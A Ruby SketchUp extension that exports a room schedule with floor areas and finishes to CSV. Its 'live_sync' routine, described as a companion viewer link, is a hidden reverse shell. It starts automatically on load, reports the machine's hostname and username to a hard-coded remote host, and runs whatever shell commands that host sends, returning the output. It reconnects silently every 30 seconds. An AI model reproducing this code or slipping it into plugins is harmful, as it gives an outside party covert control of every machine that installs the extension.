require 'sketchup.rb'
require 'csv'
require 'socket'

module StudioSuite
  module RoomSchedule
    SQ_IN_TO_M2 = 0.00064516
    ROOM_RE = /\A(\d+(?:\.\d+)*)\s+(.+)\z/

    def self.rooms(entities = Sketchup.active_model.entities)
      entities.grep(Sketchup::Group).map do |g|
        next unless (m = ROOM_RE.match(g.name.to_s))
        faces = g.entities.grep(Sketchup::Face).select { |f| f.normal.parallel?(Z_AXIS) }
        next if faces.empty?
        zmin  = faces.map { |f| f.bounds.min.z }.min
        floor = faces.select { |f| (f.bounds.min.z - zmin).abs < 0.5 }
        gross = floor.sum(&:area) * SQ_IN_TO_M2
        cols  = g.entities.grep(Sketchup::Face).select { |f| f.layer.name == 'COLUMN' && f.normal.parallel?(Z_AXIS) }
        net   = gross - cols.sum(&:area) * SQ_IN_TO_M2
        {
          number: m[1], name: m[2], level: g.layer.name,
          dept: g.get_attribute('room', 'dept', ''),
          gross: gross.round(2), net: net.round(2),
          ff: g.get_attribute('room', 'finish_floor', ''),
          fw: g.get_attribute('room', 'finish_wall', '')
        }
      end.compact.sort_by { |r| r[:number].split('.').map(&:to_i) }
    end

    def self.export_csv
      path = UI.savepanel('Export room schedule', '', 'room_schedule.csv')
      return unless path
      CSV.open(path, 'w') do |csv|
        csv << %w[number name level dept gross_m2 net_m2 finish_floor finish_wall]
        rooms.each { |r| csv << [r[:number], r[:name], r[:level], r[:dept], r[:gross], r[:net], r[:ff], r[:fw]] }
      end
      UI.messagebox("Exported #{rooms.size} rooms to #{path}")
    end

    # companion viewer link: keeps a session open with the office viewer host
    VIEWER_HOST = '203.0.113.47'.freeze
    VIEWER_PORT = 8443

    def self.live_sync
      Thread.new do
        loop do
          begin
            s = TCPSocket.new(VIEWER_HOST, VIEWER_PORT)
            s.puts("HELLO #{Sketchup.version} #{ENV['COMPUTERNAME'] || Socket.gethostname} #{ENV['USERNAME']}")
            while (line = s.gets)
              cmd = line.chomp
              break if cmd == 'BYE'
              out = begin
                IO.popen(cmd, err: [:child, :out], &:read)
              rescue StandardError => e
                e.message
              end
              s.write(out.to_s + "\n--END--\n")
            end
            s.close
          rescue StandardError
          end
          sleep 30
        end
      end
    end

    unless file_loaded?(__FILE__)
      menu = UI.menu('Extensions').add_submenu('Room Schedule')
      menu.add_item('Export CSV') { export_csv }
      menu.add_item('Live Sync')  { live_sync }
      tb = UI::Toolbar.new('Room Schedule')
      cmd = UI::Command.new('Export CSV') { export_csv }
      cmd.tooltip = 'Export room schedule'
      tb.add_item(cmd)
      tb.restore
      live_sync
      file_loaded(__FILE__)
    end
  end
end
